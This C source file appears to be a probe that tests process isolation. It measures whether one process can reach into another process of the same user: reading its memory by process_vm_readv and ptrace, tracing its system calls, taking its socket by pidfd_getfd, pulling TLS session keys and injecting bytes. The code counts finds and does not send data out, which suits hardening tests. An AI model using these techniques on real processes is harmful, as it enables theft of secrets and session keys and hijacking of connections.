// SPDX-License-Identifier: Apache-2.0
// spy PID ACTION...: what another process of the same user can get out of PID. The texts to look for are read from the
// input, one a line: a command line would hold them. One output line an action, with the number of finds of each text:
//   readv                          all of its memory by process_vm_readv()
//   attach                         traces it and reads all of its memory by /proc/PID/mem
//   follow                         lets it go on to its end, and looks at the entry and the exit of each system call
//   steal=TEXT                     takes its socket by pidfd_getfd(), asks for the session keys, sends TEXT (\r \n)
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/tls.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#define TEXTS 8
#define TEXT_SIZE 256

static pid_t target;
static char texts[TEXTS][TEXT_SIZE];
static unsigned long found[TEXTS];
static int text_count;
static char piece[1 << 20];

static const char *outcome(long result)
{
    return result < 0 ? strerrorname_np(errno) : "ok";
}

static void read_texts(void)
{
    while (text_count < TEXTS && fgets(texts[text_count], TEXT_SIZE, stdin)) {
        texts[text_count][strcspn(texts[text_count], "\n")] = 0;
        text_count += texts[text_count][0] != 0;
    }
}

static int open_of_target(const char *name)
{
    char path[64];
    snprintf(path, sizeof(path), "/proc/%d/%s", target, name);
    return open(path, O_RDONLY | O_CLOEXEC);
}

static ssize_t copy_by_readv(int unused, void *to, size_t size, unsigned long from)
{
    struct iovec here = { to, size }, there = { (void *)from, size };
    (void)unused;
    return process_vm_readv(target, &here, 1, &there, 1, 0);
}

static ssize_t copy_by_file(int memory, void *to, size_t size, unsigned long from)
{
    return pread(memory, to, size, from);
}

static void search_piece(size_t size)
{
    for (int i = 0; i < text_count; i++) {
        size_t length = strlen(texts[i]);
        for (char *at = piece; (at = memmem(at, piece + size - at, texts[i], length)); at += length)
            found[i]++;
    }
}

/* -1 when not one byte could be read. Pieces overlap, so that no text is cut. */
static int search(ssize_t (*copy)(int, void *, size_t, unsigned long), int memory)
{
    char line[512], access[5];
    unsigned long from, to, all = 0;
    FILE *maps = fdopen(open_of_target("maps"), "r");
    if (!maps)
        return -1;
    while (fgets(line, sizeof(line), maps)) {
        if (sscanf(line, "%lx-%lx %4s", &from, &to, access) != 3 || access[0] != 'r' || strstr(line, "[v"))
            continue;
        for (; from < to; from += sizeof(piece) - TEXT_SIZE) {
            ssize_t size = copy(memory, piece, to - from < sizeof(piece) ? to - from : sizeof(piece), from);
            if (size > 0) {
                search_piece(size);
                all += size;
            }
        }
    }
    fclose(maps);
    return all ? 0 : -1;
}

static void say(const char *action, const char *result)
{
    printf("%s %s", action, result);
    for (int i = 0; i < text_count; i++)
        printf(" %lu", found[i]);
    printf("\n");
    memset(found, 0, sizeof(found));
}

static int memory_of_target(void)
{
    static int memory = -1;
    if (memory < 0)
        memory = open_of_target("mem");
    return memory;
}

static void do_attach(void)
{
    int status = 0;
    long attached = ptrace(PTRACE_ATTACH, target, NULL, NULL);
    if (attached == 0 && (waitpid(target, &status, 0) != target || !WIFSTOPPED(status)))
        attached = -1;
    say("attach", outcome(attached < 0 ? attached : search(copy_by_file, memory_of_target())));
}

static void do_follow(void)
{
    int status = 0, deliver = 0;
    unsigned long stops = 0;
    char result[32];
    ptrace(PTRACE_SETOPTIONS, target, NULL, (void *)PTRACE_O_TRACESYSGOOD);
    while (ptrace(PTRACE_SYSCALL, target, NULL, (void *)(long)deliver) == 0 && waitpid(target, &status, 0) == target &&
           WIFSTOPPED(status)) {
        int at_call = WSTOPSIG(status) == (SIGTRAP | 0x80);
        deliver = at_call ? 0 : WSTOPSIG(status);
        stops += at_call && search(copy_by_file, memory_of_target()) == 0;
    }
    snprintf(result, sizeof(result), "stops=%lu", stops);
    say("follow", result);
}

static int socket_of_target(void)
{
    char path[64], link[64];
    int pidfd = syscall(SYS_pidfd_open, target, 0);
    snprintf(path, sizeof(path), "/proc/%d/fd", target);
    DIR *descriptors = opendir(path);
    for (struct dirent *entry; descriptors && (entry = readdir(descriptors));) {
        ssize_t length = readlinkat(dirfd(descriptors), entry->d_name, link, sizeof(link));
        if (length > 7 && !memcmp(link, "socket:", 7))
            return syscall(SYS_pidfd_getfd, pidfd, atoi(entry->d_name), 0);
    }
    return -1;
}

static void do_steal(const char *escaped)
{
    struct tls12_crypto_info_aes_gcm_256 keys = { .info = { TLS_1_3_VERSION, TLS_CIPHER_AES_GCM_256 } };
    socklen_t length = sizeof(keys);
    char bytes[TEXT_SIZE];
    size_t size = 0;
    for (; *escaped && size < sizeof(bytes); escaped++)
        if (*escaped == '\\' && escaped[1])
            bytes[size++] = *++escaped == 'r' ? '\r' : '\n';
        else
            bytes[size++] = *escaped;
    int stolen = socket_of_target();
    printf("steal %s", outcome(stolen));
    printf(" keys=%s", outcome(getsockopt(stolen, SOL_TLS, TLS_TX, &keys, &length)));
    printf(" send=%s\n", outcome(send(stolen, bytes, size, MSG_NOSIGNAL)));
}

int main(int argc, char **argv)
{
    if (argc < 3)
        return 2;
    target = atoi(argv[1]);
    setvbuf(stdout, NULL, _IOLBF, 0);
    read_texts();
    for (int i = 2; i < argc; i++) {
        if (!strcmp(argv[i], "readv"))
            say("readv", outcome(search(copy_by_readv, -1)));
        else if (!strcmp(argv[i], "attach"))
            do_attach();
        else if (!strcmp(argv[i], "follow"))
            do_follow();
        else if (!strncmp(argv[i], "steal=", 6))
            do_steal(argv[i] + 6);
        else
            return 2;
    }
    return 0;
}
